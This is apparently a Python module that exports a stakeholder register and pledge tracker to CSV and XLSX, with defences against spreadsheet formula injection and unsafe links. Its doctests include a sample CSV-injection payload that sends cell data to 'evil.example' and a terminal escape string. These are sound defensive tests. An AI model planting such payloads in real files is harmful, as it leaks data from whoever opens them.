"""The register and the tracker as files: CSV, and one XLSX workbook with a sheet per section.

Every table is built once (`tables`) and written both ways, so the CSV and the workbook cannot
disagree. In the workbook the header row is frozen and filterable, dates are real dates, and
each source cell links to its evidence: to the article's web address when the cell cites one
source that has one, otherwise to that source's row in the Sources sheet; a cell comment gives
the titles of all the sources it cites.

Text comes from news articles, and facilitators open these files in Excel or LibreOffice, so no
text can become a formula: in the workbook every text is a string cell (`=HYPERLINK(…)` stays
those characters), and in CSV, which has no cell types, a text that a spreadsheet program would
take for a formula gets a leading `'` (OWASP's advice for CSV injection). Characters that XLSX
cannot hold are written as escapes (`\x1b`), and a text longer than a cell can hold is cut with
a note.

Example
-------
>>> [name for name, _ in tables([], [], {})]
['Actors', 'Posts', 'Pledges & requests', 'Statements', 'Evidence', 'Tracker', 'Overrides', 'Disagreements', 'Sources']
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.hyperlink import Hyperlink

from kg.stakeholders.register import Commitment, StakeholderRow

Table = tuple[list[str], list[list[Any]]]  # header, rows; a column named "sources" holds a tuple of IDs


def _join(values: Sequence[str]) -> str:
    return "; ".join(values)


def _post_text(row: StakeholderRow) -> str:
    return _join([f"{p.post_name} ({p.tenure}{', acting' if p.acting else ''}{', undated' if p.undated else ''})"
                  for p in row.posts])


def _history(c: Commitment) -> str:
    return _join([f"{h.source}: {h.status}" + (f" ({h.date.isoformat()})" if h.date else "") for h in c.history])


def tables(rows: Sequence[StakeholderRow], tracker: Sequence[Commitment],
           sources: Mapping[str, Mapping[str, Any]]) -> list[tuple[str, Table]]:
    """Every section as (sheet name, (header, rows)), in workbook order."""
    actors = [[
        r.id, r.name, r.kind, r.type, _post_text(r), _join([n for _, n in r.organisations]),
        _join([n for _, n in r.regions]), _join([i.name for i in r.programmes()]), _join([i.name for i in r.events()]),
        len(r.pledges), _join(sorted({c.status for c in r.pledges})), len(r.requests_made), len(r.requests_received),
        len(r.statements), r.independent_sources, tuple(r.sources), r.first_seen, r.last_seen,
        r.influence, r.interest, r.shown_influence, r.shown_interest,
        *((r.override.by, r.override.on, r.override.why) if r.override else ("", None, "")),
    ] for r in rows]
    posts = [[r.id, r.name, p.post, p.post_name, p.organisation_name, p.role, p.authority, p.tenure, p.acting,
              p.on_date or "", p.first_seen, p.last_seen, p.start, p.end, p.titles_as_written, p.sources]
             for r in rows for p in r.posts]
    commitments = [[r.id, r.name, role, c.id, c.kind, c.what, c.to_names, c.regarding_names, c.due_year, c.status,
                    c.made_on, c.sources]
                   for r in rows
                   for role, made in (("made", r.pledges + r.requests_made), ("received", r.requests_received))
                   for c in made]
    statements = [[r.id, r.name, s.id, s.summary, s.quote_type, s.role_name, s.event_name, s.date, s.sources]
                  for r in rows for s in r.statements]
    evidence = [[r.id, r.name, e.score, e.points, e.reason, e.text("id"), e.sources] for r in rows for e in r.reasons]
    tracked = [[c.id, c.kind, c.by, c.by_name, c.made_on, c.what, c.to_names, c.regarding_names, c.due_year,
                c.status, _history(c), _join(c.regions), c.sources, c.evidence] for c in tracker]
    overrides = [[o.id, r.id, r.name, o.by, o.on, o.why, o.old_influence, o.new_influence, o.old_interest,
                  o.new_interest, r.influence, r.interest] for r in rows for o in r.overrides]
    listed = [[sid, s.get("title"), s.get("publisher"), s.get("issued"), s.get("url"), s.get("file")]
              for sid, s in sorted(sources.items())]
    disputed = [[r.id, r.name, d.flag, d.kind, d.origin, d.reason, d.claims] for r in rows for d in r.disagreements]
    return [
        ("Actors", (["id", "name", "kind", "type", "posts", "organisations", "regions", "programmes", "events",
                     "pledges", "pledge statuses", "requests made", "requests received", "statements",
                     "independent sources", "sources", "first seen", "last seen", "influence (derived)",
                     "interest (derived)", "influence (shown)", "interest (shown)", "override by", "override on",
                     "override why"], actors)),
        ("Posts", (["actor", "name", "post", "post name", "organisation", "role", "authority", "tenure", "acting",
                    "on the date", "first seen", "last seen", "from", "to", "titles as written", "sources"], posts)),
        ("Pledges & requests", (["actor", "name", "made or received", "commitment", "kind", "what", "to",
                                 "regarding", "due year", "status", "made on", "sources"], commitments)),
        ("Statements", (["actor", "name", "statement", "summary", "quote type", "in role", "at event", "date",
                         "sources"], statements)),
        ("Evidence", (["actor", "name", "score", "points", "reason", "alasan", "sources"], evidence)),
        ("Tracker", (["commitment", "kind", "by", "by name", "made on", "what", "to", "regarding", "due year",
                      "status", "status history", "regions", "sources", "evidence"], tracked)),
        ("Overrides", (["override", "actor", "name", "by", "on", "why", "old influence", "new influence",
                        "old interest", "new interest", "influence (derived now)", "interest (derived now)"],
                       overrides)),
        ("Disagreements", (["actor", "name", "flag", "kind", "origin", "reason", "claims"], disputed)),
        ("Sources", (["source", "title", "publisher", "published", "url", "file"], listed)),
    ]


def _text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, tuple):
        return ", ".join(value)
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what makes Excel or LibreOffice read a CSV cell as a formula
XLSX_CELL_LIMIT = 32_767  # characters; Excel calls a file with a longer cell damaged


def csv_cell(value: Any) -> str:
    """A value as CSV text that no spreadsheet program takes for a formula; numbers stay numbers.

    >>> csv_cell('=HYPERLINK("http://evil.example/?leak="&A1,"Muhyidin")')[:12]
    "'=HYPERLINK("
    >>> csv_cell(-3), csv_cell("Muhyidin")
    ('-3', 'Muhyidin')
    """
    text = _text(value)
    if isinstance(value, (str, tuple)) and text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def write_csv(table: Table, path: Path) -> Path:
    """One table as UTF-8 CSV (with a BOM, so that spreadsheet programs read Indonesian text right)."""
    header, rows = table
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows([csv_cell(v) for v in row] for row in rows)
    return path


def xlsx_text(text: str) -> str:
    r"""Text as an XLSX cell can hold it: characters XML 1.0 forbids as escapes, and cut to Excel's limit.

    >>> print(xlsx_text("\x1b]0;PWNED\x07"))
    \x1b]0;PWNED\x07
    """
    text = ILLEGAL_CHARACTERS_RE.sub(lambda m: f"\\x{ord(m.group()):02x}", text)
    if len(text) > XLSX_CELL_LIMIT:
        note = f" … [cut: {len(text):,} characters]"
        text = text[:XLSX_CELL_LIMIT - len(note)] + note
    return text


def write_workbook(sections: Sequence[tuple[str, Table]], sources: Mapping[str, Mapping[str, Any]],
                   path: Path) -> Path:
    """All sections as one XLSX, a sheet each, header frozen and filterable, source cells linked."""
    workbook = Workbook()
    workbook.remove(workbook.active)  # type: ignore[arg-type]
    source_rows = {sid: i + 2 for i, sid in enumerate(sorted(sources))}
    for name, (header, rows) in sections:
        sheet = workbook.create_sheet(name)
        sheet.append(header)
        for cell in sheet[1]:
            cell.font = Font(bold=True)
        for r, values in enumerate(rows, start=2):
            for column, value in enumerate(values, start=1):
                _put(sheet.cell(row=r, column=column), value)
        for column, title in enumerate(header, start=1):
            if title in ("sources", "url"):
                for r, values in enumerate(rows, start=2):
                    _link(sheet.cell(row=r, column=column), values[column - 1], title, sources, source_rows)
            widest = max([len(title), *(len(_text(v)) for v in (row[column - 1] for row in rows))])
            sheet.column_dimensions[get_column_letter(column)].width = min(60, max(8, widest + 2))
        sheet.freeze_panes = "A2"
        sheet.auto_filter.ref = f"A1:{get_column_letter(len(header))}{len(rows) + 1}"
    workbook.save(path)
    return path


def _put(cell: Any, value: Any) -> None:
    """Numbers and dates as themselves; everything else as a string cell, never a formula."""
    if value is None:
        return
    if isinstance(value, (int, float, dt.date)) and not isinstance(value, bool):
        cell.value = value
        return
    cell.value = xlsx_text(_text(value))
    cell.data_type = "s"  # openpyxl makes any text that starts with "=" a formula


def _link(cell: Any, value: Any, title: str, sources: Mapping[str, Mapping[str, Any]],
          source_rows: Mapping[str, int]) -> None:
    if title == "url":
        if _is_web_address(value):
            cell.hyperlink = str(value)
        return
    cited = [s for s in value or () if s in sources]
    if not cited:
        return
    url = sources[cited[0]].get("url") if len(cited) == 1 else None
    if _is_web_address(url):
        cell.hyperlink = str(url)
    else:  # an internal link: a location, not a target, so that spreadsheet programs jump within the file
        cell.hyperlink = Hyperlink(ref=cell.coordinate, location=f"'Sources'!A{source_rows[cited[0]]}")
    cell.comment = Comment(xlsx_text("\n".join(f"{s}: {sources[s].get('title')}" for s in cited)), "kg")
    cell.font = Font(color="0563C1", underline="single")


def _is_web_address(url: Any) -> bool:
    """Only http(s) links: a file:, UNC or javascript: target from an article must not be one click away."""
    return bool(url) and urlparse(str(url)).scheme in ("http", "https")
